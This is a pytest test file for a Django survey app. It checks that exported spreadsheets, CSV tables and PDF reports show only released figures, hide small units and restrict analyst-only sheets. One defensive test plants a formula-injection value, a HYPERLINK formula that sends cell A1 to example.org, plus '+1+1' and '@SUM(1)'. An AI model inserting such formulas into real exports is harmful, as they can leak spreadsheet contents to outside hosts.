"""Results as files: what was released and nothing more, in every one of them."""

import csv
import re
from collections.abc import Iterator
from datetime import timedelta
from io import BytesIO, StringIO
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from people.models import User
from surveys import queries, services
from surveys.coarsening import Given
from surveys.computing import compute
from surveys.models import Comment, Survey
from surveys.reports import read
from surveys.reports.document import Report, draw
from surveys.reports.paper import HEIGHT, MARGIN, Paper
from tests.cast import Cast, person
from tests.surveys.conftest import CODES, answers, opened, with_colleagues

KINDS = ("pppk", "pns", "pns")
FIGURE = re.compile(r"\d+(?:[.,]\d+)?")


def published(survey: Survey, sizes: dict[Any, int]) -> Survey:
    """Answered by so many of each unit, closed, computed and published; every third of them says PPPK."""
    given = [
        Given(
            unit=str(unit.pk),
            answers=answers(number * 3, CODES),
            background={"status": "pppk" if number % 3 else "pns"},
        )
        for unit, size in sizes.items()
        for number in range(size)
    ]
    told = compute(survey, given).told
    Survey.objects.filter(pk=survey.pk).update(
        state=Survey.State.PUBLISHED, results=told, answered=len(given), unlinked_at=timezone.now()
    )
    return Survey.objects.select_related("series__office", "series__version__instrument").get(pk=survey.pk)


@pytest.fixture
def told_survey(cast: Cast) -> Survey:
    with_colleagues(cast, 7)
    for number in range(5):
        person(200 + number, f"Staf{number} Contoh", cast.government)
    for number in range(2):
        person(210 + number, f"Ajudan{number} Contoh", cast.district)
    sizes = {cast.district: 3, cast.personnel: 8, cast.finance: 4, cast.government: 6, cast.delima: 11}
    return published(opened(cast, background=["status"]), sizes)


def fetched(survey: Survey, reader: User, name: str, language: str = "id") -> bytes:
    client = Client()
    client.cookies["django_language"] = language
    client.force_login(reader)
    answer = client.get(f"/api/surveys/{survey.pk}/{name}/")
    assert answer.status_code == 200, answer.content
    assert answer["Cache-Control"] == "no-store"
    assert "attachment" in answer["Content-Disposition"]
    return answer.content


def cells_of(content: bytes) -> dict[str, list[list[Any]]]:
    book = load_workbook(BytesIO(content))
    return {sheet.title: [[cell.value for cell in row] for row in sheet.iter_rows()] for sheet in book}


def released(value: Any) -> Iterator[float]:
    """Every figure of the frozen results, to the digits that are shown."""
    if isinstance(value, dict):
        for one in value.values():
            yield from released(one)
    elif isinstance(value, list):
        for one in value:
            yield from released(one)
    elif isinstance(value, int | float):
        yield round(value, 2)


def test_every_figure_of_the_spreadsheet_was_released(cast: Cast, told_survey: Survey) -> None:
    allowed = set(released(queries.told_to_all(told_survey)))
    sheets = cells_of(fetched(told_survey, cast.rina, "xlsx"))
    # Sums of counts that are told, checked by themselves below.
    del sheets["Sebaran"]
    figures = {cell for rows in sheets.values() for row in rows for cell in row if isinstance(cell, int | float)}
    assert figures
    assert figures <= allowed


def test_the_spread_is_the_sum_of_counts_that_were_released(cast: Cast, told_survey: Survey) -> None:
    rows = cells_of(fetched(told_survey, cast.rina, "xlsx"))["Sebaran"][1:]
    expected = []
    for groups in told_survey.results["distributions"].values():
        counts = [row for group in groups for row in group["counts"].values()]
        if counts:
            low, lower, middle, higher, high = (sum(column) for column in zip(*counts, strict=True))
            expected.append([low + lower, middle, higher + high])
    assert expected
    assert [row[1:] for row in rows] == expected


def test_hidden_units_have_no_figure(cast: Cast, told_survey: Survey) -> None:
    """The four of the finance subsection are told with the personnel subsection, the section with the three above."""
    rows = {row[0]: row[1:] for row in cells_of(fetched(told_survey, cast.rina, "xlsx"))["Semua unit"]}
    for hidden in (cast.finance, cast.government):
        assert "disamarkan" in rows[hidden.name]
        assert not [cell for cell in rows[hidden.name] if isinstance(cell, int | float)]
    assert rows[cast.delima.name][1] == pytest.approx(
        told_survey.results["units"][str(cast.delima.pk)]["measures"]["total"]["mean"], abs=0.005
    )


def test_the_table_says_the_same_as_the_spreadsheet(cast: Cast, told_survey: Survey) -> None:
    lines = list(csv.reader(StringIO(fetched(told_survey, cast.rina, "csv").decode("utf-8-sig"))))
    assert lines[0] == ["Tabel", "Baris", "Kolom", "Nilai"]
    sheets = cells_of(fetched(told_survey, cast.rina, "xlsx"))
    expected = [
        [title, str(row[0]), heading, str(cell)]
        for title, (headings, *rows) in sheets.items()
        for row in rows
        for heading, cell in zip(headings[1:], row[1:], strict=True)
        if cell is not None
    ]
    assert lines[1:] == expected


def test_only_analysts_get_items_and_flags(cast: Cast, told_survey: Survey) -> None:
    staff, analyst = (set(cells_of(fetched(told_survey, who, "xlsx"))) for who in (cast.rizal, cast.analyst))
    assert analyst - staff == {"Semua butir", "Mutu jawaban"}


def test_no_text_becomes_a_formula(cast: Cast) -> None:
    with_colleagues(cast, 7)
    told_survey = published(opened(cast, "process"), {cast.delima: 11})
    wicked = '=HYPERLINK("http://example.org/"&A1)'
    Comment.objects.create(survey=told_survey, item="TERBUKA", text=wicked)
    services.plan_initiative(
        told_survey, heard="+1+1", action="@SUM(1)", owner=cast.febri, due=timezone.localdate(), actor=cast.rizal
    )
    sheets = load_workbook(BytesIO(fetched(told_survey, cast.rina, "xlsx")))
    written = [cell for sheet in sheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {wicked, "+1+1", "@SUM(1)"} <= {cell.value for cell in written}
    assert not [cell for cell in written if cell.data_type == "f"]
    table = csv.reader(StringIO(fetched(told_survey, cast.rina, "csv").decode("utf-8-sig")))
    assert not [cell for line in table for cell in line if cell.startswith(("=", "+", "@", "-"))]


def sheet(survey: Survey, *, for_head: bool) -> Paper:
    told = queries.told_to_all(survey)
    initiatives = list(queries.initiatives_of([survey]))
    return draw(
        Report(
            survey,
            read(survey, told, list(queries.units_of(survey))),
            initiatives,
            for_head=for_head,
            now=timezone.now(),
        )
    )


@pytest.mark.parametrize("language", ["id", "en"])
def test_the_report_is_one_tagged_sheet_in_its_language(cast: Cast, told_survey: Survey, language: str) -> None:
    content = fetched(told_survey, cast.rizal, "head-report", language)
    assert content.startswith(b"%PDF-")
    assert b"/Count 1" in content
    assert f"/Lang ({language})".encode() in content
    assert b"/MarkInfo" in content
    assert b"/S /H1" in content
    assert content.count(b"/S /Figure") == content.count(b"/Alt ") > 5


def test_every_figure_of_the_report_was_released(told_survey: Survey) -> None:
    results = queries.told_to_all(told_survey)
    allowed = {f"{value:.2f}" for value in released(results)} | {str(value) for value in released(results)}
    response = told_survey.results["response"]
    # Of the words around them: the scale, the share that answered, thresholds, the confidence, dates, sizes of groups.
    allowed |= {str(number) for number in (1, 2, 3, 4, 5, 8, 10, 95, 100, round(100 * response["rate"]))}
    allowed |= {str(abs(round(100 * gap))) for gap in told_survey.results["composition"]["gaps"]}
    allowed |= {
        str(part) for day in (timezone.localdate(), told_survey.closes_at.date()) for part in (day.day, day.year)
    }
    allowed |= {str((told_survey.closes_at + timedelta(days=1)).day)}
    for for_head in (True, False):
        said = " ".join(sheet(told_survey, for_head=for_head).said)
        assert {figure.replace(",", ".") for figure in FIGURE.findall(said)} <= allowed


def test_the_staff_read_no_statistics(told_survey: Survey) -> None:
    for_head, for_all = (" ".join(sheet(told_survey, for_head=wanted).said) for wanted in (True, False))
    assert "Seberapa dapat dipercaya" in for_head
    assert "Seberapa dapat dipercaya" not in for_all
    assert "Per unit kerja" in for_all


def test_long_texts_and_many_units_stay_on_the_sheet(cast: Cast, told_survey: Survey) -> None:
    """Nothing is written below the margin: what finds no room is counted."""
    for number in range(9):
        services.plan_initiative(
            told_survey,
            heard=f"{number} {'Pegawai belum diberi waktu untuk belajar. ' * 7}"[:300],
            action="Satu jam belajar setiap Jumat pagi. " * 8,
            owner=cast.febri,
            due=timezone.localdate() + timedelta(days=number),
            actor=cast.rizal,
        )
    paper = sheet(told_survey, for_head=True)
    assert "… dan 5 lagi." in paper.said
    assert paper.lowest >= MARGIN - 8
    assert paper.highest <= HEIGHT - MARGIN


@pytest.mark.parametrize("answered", [0, 4])
def test_of_few_answers_no_file_tells_a_figure(cast: Cast, answered: int) -> None:
    survey = published(opened(cast), {cast.delima: answered})
    sheets = cells_of(fetched(survey, cast.analyst, "xlsx"))
    assert set(sheets) == {"Ringkasan"}
    said = " ".join(sheet(survey, for_head=True).said)
    assert "Profil" not in said
    assert "terlalu sedikit" in said if answered else "Tidak ada yang menjawab" in said
    assert "4 dari" not in said


def page(survey: Survey, reader: User) -> str:
    client = Client()
    client.force_login(reader)
    return client.get(f"/survei/{survey.pk}/hasil/").content.decode()


def test_a_page_that_is_kept_is_nobody_elses_nor_out_of_date(cast: Cast, told_survey: Survey) -> None:
    for reader, sees_quality in ((cast.analyst, True), (cast.rina, False), (cast.analyst, True)):
        assert ("Mutu jawaban" in page(told_survey, reader)) is sees_quality
    assert "Kelurahan Delima" in page(told_survey, cast.rina)
    cast.delima.name = "Kelurahan Delima Baru"
    cast.delima.save()
    assert "Kelurahan Delima Baru" in page(told_survey, cast.rina)
